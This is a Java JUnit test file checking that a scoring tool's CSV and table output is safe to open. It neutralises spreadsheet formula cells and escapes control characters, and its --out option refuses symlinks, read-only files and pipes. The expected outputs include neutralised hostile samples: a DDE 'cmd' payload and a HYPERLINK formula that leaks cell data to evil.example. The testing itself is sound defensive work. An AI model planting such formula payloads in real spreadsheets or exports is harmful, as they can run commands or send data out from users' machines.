package io.github.kaoping.scoring.io;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.github.kaoping.scoring.Assessment;
import io.github.kaoping.scoring.Calculator;
import io.github.kaoping.scoring.UnitFacts;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileSystemException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What we write is safe to open: CSV cells a spreadsheet would run are neutralised, {@code --out}
 * replaces only a writable regular file, and a terminal shows control characters escaped.
 */
class SafeOutputTest {

  @TempDir Path tmp;

  private static String csv(Results results) throws IOException {
    StringWriter w = new StringWriter();
    ResultFiles.write(w, ResultFormat.CSV, HostileIds.scheme(), results);
    return w.toString();
  }

  @Test
  void resultsCsvNeutralisesTextASpreadsheetWouldRunAndLeavesNumbersAlone() throws IOException {
    assertThat(csv(HostileIds.results()).split("\r\n", -1))
        .containsExactly(
            String.join(",", ResultFiles.CSV_COLUMNS) + ",hostile,s1",
            // the node columns' titles: the section's is a formula, neutralised like any text
            ",".repeat(ResultFiles.CSV_COLUMNS.size()) + "恶意输入,\"'=SUM(1,2)\"",
            "awards,'=cmd|' /C calc'!A0,,g,,90,90,90,,1,1,9,'=1+1,,,,false,,,,90,90",
            "awards,'@SUM(A1:A2),,g,,89,89,89,,2,2,8,,,,,false,,,,89,89",
            "awards,'+1,,g,,88,88,88,,3,3,7,,,,,false,,,,88,88",
            "awards,'-2+3,,g,,87,87,87,,4,4,6,,,,,false,,,,87,87",
            "awards,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"查看\"\")\",,g,,86,86,86,,5,5,5,,,,,false,,,,86,86",
            "awards,'\t=1+1,,g,,85,85,85,,6,6,4,,,,,false,,,,85,85",
            "awards,''=1+1,,g,,84,84,84,,7,7,3,,,,,false,,,,84,84",
            "awards,-5,,g,,83,83,83,,8,8,2,,,,,false,,,,83,83",
            "awards,plain,,g,,82,82,82,,9,9,1,,,,,false,,,,82,82",
            "");
  }

  @Test
  void neutralisingIsUndoneExactlyWhenACsvIsReadBack() {
    for (String text :
        List.of(
            "=1", "'=1", "''=1", "+", "-", "@", "\t", "\r", "'", "''", "a'=1", "-3.25", "-0", "")) {
      assertThat(Csv.restore(Csv.neutralise(text))).as(text).isEqualTo(text);
    }
    assertThat(Csv.neutralise("-3.25")).isEqualTo("-3.25");
    assertThat(Csv.neutralise("-3.25+1")).isEqualTo("'-3.25+1");
    assertThat(Csv.neutralise("27.5")).isEqualTo("27.5");
  }

  @Test
  void aFactsCsvOfHostileIdsIsNeutralisedAndReadsBackEqual() throws IOException {
    StringWriter w = new StringWriter();
    FactsFiles.write(w, FileFormat.CSV, HostileIds.scheme(), HostileIds.facts());
    assertThat(w.toString()).contains("\r\n'=cmd|' /C calc'!A0,g,,90\r\n");
    List<UnitFacts> back;
    try (FactsReader r =
        FactsFiles.open(
            new StringReader(w.toString()),
            FileFormat.CSV,
            "f.csv",
            Calculator.of(HostileIds.scheme()))) {
      back = FactsFiles.readAll(r, "f.csv");
    }
    assertThat(back.stream().map(UnitFacts::unitId)).containsExactlyElementsOf(HostileIds.IDS);
  }

  @Test
  void theTableShowsControlCharactersInIdsEscaped() throws IOException {
    Calculator calc = Calculator.of(HostileIds.scheme());
    Results results =
        Results.of(
            calc.scheme(),
            List.of(
                calc.score(
                    UnitFacts.of("red\u001b[31m", "g").addFacts(Assessment.of("s1", "8")).build()),
                calc.score(
                    UnitFacts.of("two\nlines\u202e", "g")
                        .addFacts(Assessment.of("s1", "9"))
                        .build())));
    StringWriter w = new StringWriter();
    ResultFiles.write(w, ResultFormat.TABLE, calc.scheme(), results);
    String table = w.toString();
    assertThat(table).doesNotContain("\u001b", "\u202e").contains("red\\u001b[31m");
    assertThat(table.lines())
        .anySatisfy(l -> assertThat(l).contains("two\\nlines\\u202e").endsWith("=1+1"));
  }

  // ------------------------------------------------------------------ --out

  private static void writeTo(Path file) throws IOException {
    ResultFiles.write(file, ResultFormat.CSV, HostileIds.scheme(), HostileIds.results());
  }

  @Test
  void aReadOnlyFileIsNotReplaced() throws IOException {
    Path file = tmp.resolve("kept.csv");
    Files.writeString(file, "keep me");
    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("r--r--r--"));
    FileSystemException e = catchThrowableOfType(FileSystemException.class, () -> writeTo(file));
    assertThat(e).isNotNull();
    assertThat(e.getFile()).isEqualTo(file.toString());
    assertThat(e.getReason()).startsWith("is read-only");
    assertThat(file).hasContent("keep me");
  }

  @Test
  void aFileReplacedKeepsItsPermissions() throws IOException {
    Path file = tmp.resolve("private.csv");
    Files.writeString(file, "old");
    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-------"));
    writeTo(file);
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
        .isEqualTo("rw-------");
    assertThat(Files.readString(file)).startsWith("outcome,unit");
  }

  @Test
  void aSymbolicLinkIsNotReplaced() throws IOException {
    Path target = tmp.resolve("target.csv");
    Files.writeString(target, "target");
    Path link = Files.createSymbolicLink(tmp.resolve("link.csv"), target);
    FileSystemException e = catchThrowableOfType(FileSystemException.class, () -> writeTo(link));
    assertThat(e).isNotNull();
    assertThat(e.getReason()).startsWith("is a symbolic link");
    assertThat(Files.isSymbolicLink(link)).isTrue();
    assertThat(target).hasContent("target");
  }

  @Test
  void aPipeOrADirectoryIsNotReplaced() throws Exception {
    Path dir = Files.createDirectory(tmp.resolve("dir.csv"));
    Files.writeString(dir.resolve("inside"), "x");
    FileSystemException d = catchThrowableOfType(FileSystemException.class, () -> writeTo(dir));
    assertThat(d.getReason()).startsWith("is not a regular file");
    Path fifo = tmp.resolve("fifo.csv");
    Process mkfifo = new ProcessBuilder("mkfifo", fifo.toString()).start();
    assumeTrue(mkfifo.waitFor(30, TimeUnit.SECONDS) && mkfifo.exitValue() == 0, "mkfifo works");
    FileSystemException f = catchThrowableOfType(FileSystemException.class, () -> writeTo(fifo));
    assertThat(f).isNotNull();
    assertThat(f.getReason()).startsWith("is not a regular file");
    assertThat(Files.isRegularFile(fifo)).isFalse();
  }

  @Test
  void aMissingDirectoryIsNamedAsTheUserGaveIt() {
    Path file = tmp.resolve("no-such-dir").resolve("out.csv");
    FileSystemException e = catchThrowableOfType(FileSystemException.class, () -> writeTo(file));
    assertThat(e).isNotNull();
    assertThat(e.getFile()).isEqualTo(file.toString());
    assertThat(e.getMessage()).doesNotContain(".tmp");
    assertThat(e.getReason()).contains("no-such-dir").contains("does not exist");
  }

  @Test
  void aCsvFileMayBeginWithAByteOrderMarkForExcel() throws IOException {
    Path file = tmp.resolve("excel.csv");
    ResultFiles.write(
        file,
        ResultFormat.CSV,
        HostileIds.scheme(),
        HostileIds.results(),
        WriteOption.BYTE_ORDER_MARK);
    assertThat(Files.readString(file, StandardCharsets.UTF_8)).startsWith("\uFEFFoutcome,unit");
  }
}
